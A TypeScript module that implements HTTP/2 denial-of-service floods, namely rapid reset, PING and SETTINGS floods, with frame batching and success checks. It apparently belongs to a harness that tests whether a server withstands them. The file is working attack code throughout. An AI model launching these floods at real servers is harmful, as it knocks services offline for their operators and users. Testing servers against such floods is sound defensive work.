/** Floods by HTTP/2, each with what it wants: work for the other end, at no cost for the attacker. */
import { setTimeout as sleep } from "node:timers/promises";
import { attack, block, flag, frame, frameType, type Attacker } from "./frames.ts";

export interface FloodTarget {
  readonly port: number;
  readonly host: string;
  /** Requests that the program inside has got. */
  requests(): number;
}

export interface Flood {
  readonly name: string;
  /** @returns how it succeeded; undefined when the connection was ended before */
  readonly run: (target: FloodTarget) => Promise<string | undefined>;
}

const size = 2_000;
/** Frames at a time; between two of them the other end has its turn. */
const portion = 100;
/** Milliseconds without progress after which nothing more is expected. A busy host needs some. */
const patience = 10_000;

/** Requests are reset as soon as the program inside has them: few are open at a time, and the program gets them all. */
const rapidReset: Flood = {
  name: "rapid reset",
  run: async (target) => {
    const before = target.requests();
    const fields = [
      [":method", "GET"],
      [":scheme", "https"],
      [":path", "/flood"],
      [":authority", target.host],
    ] as const;
    const reset = Buffer.from([0, 0, 0, 8]);
    const { socket, ended } = await begin(target);
    let reached = 0;
    for (let first = 0; first < size && !socket.closed && reached >= first; first += portion) {
      const streams = Array.from({ length: portion }, (_, index) => 2 * (first + index) + 1);
      socket.write(
        Buffer.concat(streams.map((id) => frame(frameType.headers, flag.end | flag.endHeaders, id, block(fields)))),
      );
      const began = performance.now();
      while (reached < first + portion && !socket.closed && performance.now() - began < patience) {
        await sleep(5);
        reached = target.requests() - before;
      }
      socket.write(Buffer.concat(streams.map((id) => frame(frameType.reset, 0, id, reset))));
    }
    const { borne } = await ended();
    return borne && reached >= size ? `${reached} requests reached the program` : undefined;
  },
};

/** Every frame asks for an answer. */
const answered = (name: string, type: number, one: Buffer): Flood => ({
  name,
  run: async (target) => {
    const { socket, ended } = await begin(target, type);
    for (let sent = 0; sent < size && !socket.closed; sent += portion) {
      socket.write(Buffer.concat(Array.from({ length: portion }, () => one)));
      await sleep(1);
    }
    const { borne, answers } = await ended();
    return borne && answers >= size ? `${answers} answers` : undefined;
  },
});

export const floods: readonly Flood[] = [
  rapidReset,
  answered("PING", frameType.ping, frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  answered("SETTINGS", frameType.settings, frame(frameType.settings, 0, 0)),
];

interface Begun {
  readonly socket: Attacker["socket"];
  /** Sends a last PING. @returns whether it was answered, so that all was read; and how many answers of the type came */
  readonly ended: () => Promise<{ readonly borne: boolean; readonly answers: number }>;
}

/** @param counted type of frames whose acknowledgements are counted */
async function begin({ port, host }: FloodTarget, counted?: number): Promise<Begun> {
  const { socket } = await attack(port, host);
  const last = Buffer.from("the last");
  const seen = { answers: 0, borne: false, at: 0 };
  readFrames(socket, (type, flags, payload) => {
    seen.at = performance.now();
    if ((flags & 1) === 0) return;
    if (type === frameType.ping && payload.equals(last)) seen.borne = true;
    else if (type === counted) seen.answers++;
  });
  return {
    socket,
    ended: async () => {
      socket.write(frame(frameType.ping, 0, 0, last));
      seen.at = performance.now();
      while (!seen.borne && !socket.closed && performance.now() - seen.at < patience) await sleep(20);
      socket.destroy();
      // The answer to the SETTINGS of the preface is not one to the flood.
      return { borne: seen.borne, answers: counted === frameType.settings ? seen.answers - 1 : seen.answers };
    },
  };
}

function readFrames(
  socket: { on(event: "data", listener: (piece: Buffer) => void): unknown },
  seen: (type: number, flags: number, payload: Buffer) => void,
): void {
  let rest = Buffer.alloc(0);
  socket.on("data", (piece) => {
    rest = Buffer.concat([rest, piece]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const end = 9 + rest.readUIntBE(0, 3);
      seen(rest[3]!, rest[4]!, rest.subarray(9, end));
      rest = rest.subarray(end);
    }
  });
}
